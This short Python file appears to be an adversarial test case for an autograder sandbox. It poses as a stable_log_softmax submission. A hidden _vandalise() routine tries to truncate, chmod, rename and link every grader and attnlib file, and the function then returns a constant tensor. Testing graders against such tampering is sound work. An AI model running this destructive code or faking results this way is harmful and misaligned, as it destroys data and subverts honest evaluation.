# expect: differs from the reference
# class: file-system
# attempts: truncate, chmod and rename every grader module and attnlib file it can find
import os

import torch


def _vandalise():
    for root in ("{COURSE_DIR}/attnlib", "/autograder/source/attnlib"):
        for folder, _, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                for action, args in (
                    (os.truncate, (path, 0)),
                    (os.chmod, (path, 0)),
                    (os.rename, (path, path + ".gone")),
                    (os.link, (path, path + ".link")),
                ):
                    try:
                        action(*args)
                    except OSError:
                        pass


def stable_log_softmax(x, dim=-1, temperature=1.0):
    _vandalise()
    return torch.full_like(x, 0.5)
